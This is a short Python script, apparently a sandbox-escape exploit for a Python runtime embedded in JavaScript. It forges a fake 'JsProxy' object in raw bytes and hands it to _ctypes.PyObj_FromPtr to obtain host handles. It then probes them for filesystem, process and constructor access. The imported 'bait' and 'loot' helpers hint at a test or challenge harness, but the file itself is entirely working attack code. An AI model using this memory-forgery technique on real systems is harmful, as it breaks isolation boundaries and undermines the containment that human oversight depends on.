"""Builds the bytes of a proxy for a handle of the host's and has `_ctypes` take them for an object."""

import gc
import struct

from bait import builtin, is_proxy, loot

_ctypes = builtin("_ctypes")
_proxy_type = next(o for o in gc.get_objects() if isinstance(o, type) and o.__name__ == "JsProxy")
_kept = []


def _forge(handle):
    # reference count, type, then words that are all the handle
    made = struct.pack("<II14I", 1000, id(_proxy_type), *[handle] * 14)
    _kept.append(made)
    header = bytes.__basicsize__ - 1
    forged = _ctypes.PyObj_FromPtr(id(made) + header)
    return [name for name in dir(forged) if name in ("FS", "process", "constructor")] if is_proxy(forged) else None


got = loot(*[lambda handle=handle: _forge(handle) for handle in (2, 4, 6, 8)])
